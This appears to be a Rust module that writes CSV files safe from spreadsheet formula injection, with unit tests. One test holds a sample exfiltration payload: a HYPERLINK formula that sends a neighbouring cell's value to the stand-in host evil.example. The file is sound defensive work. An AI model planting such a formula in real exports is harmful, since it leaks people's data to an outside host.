//! The one place that writes sheets for spreadsheets. No cell in them is ever a formula, not even somebody's name,
//! since a formula can send its neighbours' content anywhere.

use csv::{QuoteStyle, WriterBuilder};

/// Stands before a cell that a spreadsheet would compute otherwise; spreadsheets take it for "this is text".
const TEXT: char = '\'';

/// A sheet while it is written, line after line.
#[derive(Debug)]
pub(crate) struct Cells {
    written: csv::Writer<Vec<u8>>,
}

impl Cells {
    /// A sheet with these columns.
    #[expect(clippy::disallowed_methods, reason = "here is where they are written")]
    pub(crate) fn with_columns(names: &[&str]) -> Self {
        // In quotes no cell falls apart where a spreadsheet separates by semicolons or tabs.
        let mut sheet = Self { written: WriterBuilder::new().quote_style(QuoteStyle::Always).from_writer(Vec::new()) };
        sheet.line(names);
        sheet
    }

    /// Adds a line: a cell for each column.
    pub(crate) fn line(&mut self, cells: &[&str]) {
        // Memory takes everything, and each line has as many cells as the first.
        drop(self.written.write_record(cells.iter().map(|cell| plain(cell))));
    }

    /// The bytes of the file.
    pub(crate) fn into_bytes(self) -> Vec<u8> {
        self.written.into_inner().unwrap_or_default()
    }
}

/// Whether a spreadsheet may compute this cell instead of showing it. Some do so for other widths of the signs, or where
/// blanks stand before them, or after a tab or a line end.
pub(crate) fn is_formula(cell: &str) -> bool {
    let is_blank =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200B}'..='\u{200F}' | '\u{2060}' | '\u{FEFF}');
    let shown = cell.trim_start_matches(is_blank);
    let blanks = &cell[..cell.len() - shown.len()];
    shown.starts_with(SIGNS) || blanks.contains(char::is_control)
}

/// The characters that a formula begins with, in all their widths.
const SIGNS: [char; 13] = [
    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{FE66}', '\u{FE62}', '\u{FE63}', '\u{FE6B}',
    '\u{2212}',
];

/// The text that is written for a cell.
fn plain(cell: &str) -> String {
    if is_formula(cell) { format!("{TEXT}{cell}") } else { cell.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_that_is_written_is_a_formula_and_each_says_what_it_said() {
        let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
        let blanks = ["", " ", "   ", "\u{a0}", "\u{3000}", "\u{200b}", "\u{feff}", "\t", "\r\n"];
        let mut sheet = Cells::with_columns(&["name", "=email"]);
        let mut expected = vec![["name".to_owned(), "'=email".to_owned()]];
        for (sign, blank) in signs.iter().flat_map(|sign| blanks.iter().map(move |blank| (sign, blank))) {
            let cell = format!("{blank}{sign}HYPERLINK(\"http://evil.example/?c=\"&D2,\"Your letter\")");
            sheet.line(&[&cell, "O’Brien, \"Pat\""]);
            expected.push([format!("'{cell}"), "O’Brien, \"Pat\"".to_owned()]);
        }
        for harmless in
            ["", " ", "Anne-Marie", "a=b", "K7QM-2D4F", "https://matrix.to/#/@porter:example.org", "'=1", "李 Lei"]
        {
            sheet.line(&[harmless, ""]);
            expected.push([harmless.to_owned(), String::new()]);
        }
        let bytes = sheet.into_bytes();
        let read: Vec<[String; 2]> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..])
            .records()
            .map(|line| line.map(|line| [line[0].to_owned(), line[1].to_owned()]).unwrap())
            .collect();
        assert_eq!(read.len(), expected.len());
        read.iter().zip(&expected).for_each(|(read, expected)| assert_eq!(read, expected));
        assert!(read.iter().flatten().all(|cell| !is_formula(cell)));
    }

    #[test]
    fn no_cell_falls_apart_into_a_formula_where_semicolons_or_tabs_separate() {
        let mut sheet = Cells::with_columns(&["name"]);
        sheet.line(&["Sam;=1+1\t=1+1"]);
        let bytes = sheet.into_bytes();
        for by in [b';', b'\t'] {
            let mut reader = csv::ReaderBuilder::new().delimiter(by).has_headers(false).from_reader(&bytes[..]);
            let cells: Vec<String> =
                reader.records().flat_map(|line| line.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
            assert!(cells.iter().all(|cell| !is_formula(cell)), "{cells:?}");
        }
    }
}
